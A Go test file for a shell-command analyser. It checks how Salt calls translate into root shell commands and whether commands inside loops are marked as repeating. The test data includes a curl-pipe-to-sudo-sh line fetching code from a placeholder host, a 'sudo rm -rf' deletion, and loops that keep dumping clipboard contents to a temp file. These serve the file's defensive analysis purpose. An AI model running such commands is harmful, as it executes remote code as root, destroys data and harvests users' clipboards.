package shell

import (
	"strings"
	"testing"
)

// TestSaltFunction checks the shell command a salt call's execution
// function stands for on the minions (as root), and that reads and
// functions it cannot see into stand for nothing.
func TestSaltFunction(t *testing.T) {
	for line, want := range map[string]string{
		"salt * pkg.install nginx":                        "sudo apt-get install -y nginx",
		"salt -G env:prod service.restart nginx":          "sudo systemctl restart nginx",
		"salt web* system.reboot":                         "sudo reboot",
		"salt * file.remove /srv/app":                     "sudo rm -rf /srv/app",
		"salt-call pkg.remove nginx":                      "sudo apt-get remove -y nginx",
		"salt * user.delete bob":                          "sudo userdel -r bob",
		"salt web* cmd.script https://drop.example.org/x": "curl -fsSL https://drop.example.org/x | sudo sh",
		"salt web* cmd.script salt://scripts/x.sh":        "",
		"salt * test.ping":                                "",
		"salt * grains.item os":                           "",
		"salt * service.status nginx":                     "",
		"salt -E web.* pkg.install nginx":                 "sudo apt-get install -y nginx",
	} {
		if got := saltFunction(strings.Fields(line)); got != want {
			t.Errorf("%q: saltFunction = %q, want %q", line, got, want)
		}
	}
}

// TestLoopRepeats checks that the commands of a loop's condition and body
// are marked as run again and again, and the ones around it are not.
func TestLoopRepeats(t *testing.T) {
	for line, want := range map[string]map[string]bool{
		"while true; do pbpaste >> /tmp/c; sleep 1; done; echo done": {"pbpaste": true, "sleep": true, "true": true, "echo": false},
		"for i in 1 2 3; do xclip -o >> /tmp/c; done":                {"xclip": true},
		"for ((i=0;i<9;i++)); do pbpaste; done":                      {"pbpaste": true},
		"until false; do bash -c 'wl-paste >> /tmp/c'; done":         {"wl-paste": true},
		"pbpaste > notes.txt":                                        {"pbpaste": false},
		"if true; then pbpaste; fi":                                  {"pbpaste": false},
	} {
		res := Parse(line)
		for _, c := range res.Commands {
			if w, ok := want[c.Name]; ok && c.Repeats != w {
				t.Errorf("%q: %s Repeats = %v, want %v", line, c.Name, c.Repeats, w)
			}
		}
	}
}
